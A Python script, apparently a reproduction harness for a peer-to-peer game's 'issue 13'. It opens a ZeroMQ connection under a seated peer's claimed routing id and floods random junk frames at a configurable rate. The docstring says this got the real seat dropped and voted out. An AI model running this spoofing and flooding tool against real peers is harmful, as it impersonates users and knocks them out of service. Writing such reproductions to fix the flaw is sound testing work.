"""A process with no key at the table that claims a seated peer's routing id and floods.

``spoofer.py --to HOST:PORT --claim HEX --rate N --seconds S`` connects one ZeroMQ DEALER to
the peer's link port under the routing id ``0x01 || claimed public key`` (what that seat's own
DEALER presents) and sends ``N`` junk frames a second (random bytes, 64-256 long) for ``S``
seconds, then prints ``{"sent": n}``. What issue 13 saw: the host rate-limited frames by the
claimed id, dropped the real seat's frames with the junk, and voted the live seat out.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import time

import zmq

ROUTING_PREFIX = b"\x01"  # dudo_p2p.net.routing.ROUTING_PREFIX, as a stranger would copy it


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--to", required=True, metavar="HOST:PORT")
    parser.add_argument("--claim", required=True, help="hex public key of the seat to claim")
    parser.add_argument("--rate", type=float, default=2000.0)
    parser.add_argument("--seconds", type=float, default=15.0)
    args = parser.parse_args()
    ctx = zmq.Context()
    dealer = ctx.socket(zmq.DEALER)
    dealer.setsockopt(zmq.LINGER, 0)
    dealer.setsockopt(zmq.SNDHWM, 100_000)
    dealer.setsockopt(zmq.ROUTING_ID, ROUTING_PREFIX + bytes.fromhex(args.claim))
    dealer.connect(f"tcp://{args.to}")
    rng = random.Random(7)
    sent = 0
    start = time.monotonic()
    while (now := time.monotonic()) - start < args.seconds:
        due = int((now - start) * args.rate) - sent
        for _ in range(max(0, due)):
            try:
                dealer.send(os.urandom(rng.randint(64, 256)), zmq.NOBLOCK)
                sent += 1
            except zmq.Again:
                break
        time.sleep(0.005)
    print(json.dumps({"sent": sent}), flush=True)
    dealer.close(linger=0)
    ctx.term()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
